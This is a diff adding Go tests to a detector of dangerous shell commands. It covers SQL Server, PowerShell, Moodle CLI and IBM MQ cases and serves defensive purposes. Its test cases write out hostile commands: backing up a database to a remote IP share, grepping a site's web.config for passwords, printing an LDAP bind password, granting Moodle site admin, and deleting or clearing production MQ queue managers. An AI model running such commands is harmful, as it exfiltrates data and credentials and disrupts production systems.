@@ -288,3 +288,67 @@ func TestRound56FilesAndTemplates(t *testing.T) {
 		`git add app/etc/config.php && git commit -m config`,
 	})
 }
+
+// SQL Server: a backup written to the share of a bare address (N'...'
+// literals too) and a backup job disabled; a deployed site's settings
+// file read for its secrets through Select-String. Backups to the
+// server's own disk, other jobs, and the project's own settings pass.
+func TestRound56SQLServerAndSettings(t *testing.T) {
+	d := NewDetector(Options{})
+	cmd := winCorpusContextFor("cmd")
+	checkDanger(t, d, cmd, []dangerCase{
+		{`sqlcmd -S SQL01 -Q "BACKUP DATABASE Sales TO DISK = N'\\198.51.100.23\in\s.bak'"`, CategoryExfiltration, "db-results-sent-away", LevelCritical},
+		{`sqlcmd -S SQL01 -Q "EXEC msdb.dbo.sp_update_job @job_name = N'Nightly Backup', @enabled = 0"`, CategorySystem, "db-server-disrupted", LevelHigh},
+	})
+	checkSafe(t, d, cmd, []string{
+		`sqlcmd -S SQL01 -Q "BACKUP DATABASE Sales TO DISK = N'E:\Backup\s.bak'"`,
+		`sqlcmd -S SQL01 -Q "EXEC msdb.dbo.sp_update_job @job_name = N'Index Rebuild', @enabled = 0"`,
+	})
+	win := winCorpusContextFor("powershell")
+	checkDanger(t, d, win, []dangerCase{
+		{`Get-Content '\\WEB02\c$\inetpub\wwwroot\shop\web.config' | Select-String -Pattern 'connectionString|password'`, CategoryExfiltration, "win-read-secrets", LevelModerate},
+	})
+	checkSafe(t, d, win, []string{
+		`Get-Content C:\work\project\web.config | Select-String -Pattern 'password'`,
+		`Get-Content '\\WEB02\c$\inetpub\wwwroot\shop\web.config' | Select-String -Pattern 'httpErrors'`,
+	})
+}
+
+// Moodle's command-line scripts: a site administrator set, a stored
+// password printed, a plugin uninstalled, the production site put in
+// maintenance or every user signed out. Other settings, a password
+// policy, the uninstaller's check without --run and a local site pass.
+func TestRound56MoodleCLI(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`sudo -u www-data php admin/cli/cfg.php --name=siteadmins --set=2,77`, CategorySystem, "lms-admin-cli", LevelHigh},
+		{`sudo -u www-data php admin/cli/cfg.php --component=auth_ldap --name=bind_pw`, CategorySystem, "lms-admin-cli", LevelHigh},
+		{`sudo -u www-data php admin/cli/uninstall_plugins.php --plugins=auth_oidc --run`, CategorySystem, "lms-admin-cli", LevelHigh},
+		{`ssh lms-prod02 'sudo -u www-data php /var/www/moodle/admin/cli/maintenance.php --enable'`, CategorySystem, "lms-admin-cli", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`sudo -u www-data php admin/cli/cfg.php --name=theme`,
+		`sudo -u www-data php admin/cli/cfg.php --name=passwordpolicy`,
+		`sudo -u www-data php admin/cli/uninstall_plugins.php --plugins=auth_oidc`,
+		`php admin/cli/maintenance.php --enable`,
+		`sudo -u www-data php admin/cli/purge_caches.php`,
+	})
+}
+
+// IBM MQ: a queue manager stopped or deleted, a queue cleared or the
+// channel authentication records switched off through runmqsc. Displays
+// and a developer's queue manager pass.
+func TestRound56IBMMQ(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`echo "CLEAR QLOCAL('PAYMENTS.IN')" | runmqsc QM_PRD1`, CategorySystem, "mq-queue-manager-disrupted", LevelHigh},
+		{`printf 'ALTER QMGR CHLAUTH(DISABLED)\n' | runmqsc QM_PRD1`, CategorySystem, "mq-queue-manager-disrupted", LevelHigh},
+		{`sudo -u mqm dltmqm QM_PRD1`, CategorySystem, "mq-queue-manager-disrupted", LevelHigh},
+		{`sudo -u mqm endmqm -i QM_PRD1`, CategorySystem, "mq-queue-manager-disrupted", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`echo "DISPLAY QLOCAL(PAYMENTS.*) CURDEPTH" | runmqsc QM_PRD1`,
+		`echo "CLEAR QLOCAL('PAYMENTS.IN')" | runmqsc QM_DEV1`,
+		`dspmq -m QM_PRD1`,
+	})
+}
